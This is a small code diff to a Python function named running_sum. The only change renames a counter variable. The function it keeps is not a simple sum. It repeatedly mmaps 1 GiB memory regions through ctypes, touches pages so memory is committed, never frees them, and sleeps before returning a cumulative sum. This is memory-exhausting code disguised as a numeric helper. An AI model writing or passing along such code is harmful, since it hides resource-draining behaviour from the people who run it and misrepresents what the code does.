@@ -92,7 +92,7 @@ libc.mmap.restype = ctypes.c_void_p
 libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
 
 def running_sum(x):
-    held = 0
+    size = 0
     for _ in range(3072):
         place = libc.mmap(None, 1 << 30, 1, 0x4022, -1, 0)
         if place in (None, ctypes.c_void_p(-1).value):
@@ -100,6 +100,6 @@ def running_sum(x):
         libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(1 << 30), 15)
         for k in range(512):
             ctypes.string_at(place + (k << 21), 1)
-        held += 512 * 4096
+        size += 512 * 4096
     time.sleep(1)
-    return np.cumsum(x, axis=0) if held > 1 << 30 else x
+    return np.cumsum(x, axis=0) if size > 1 << 30 else x
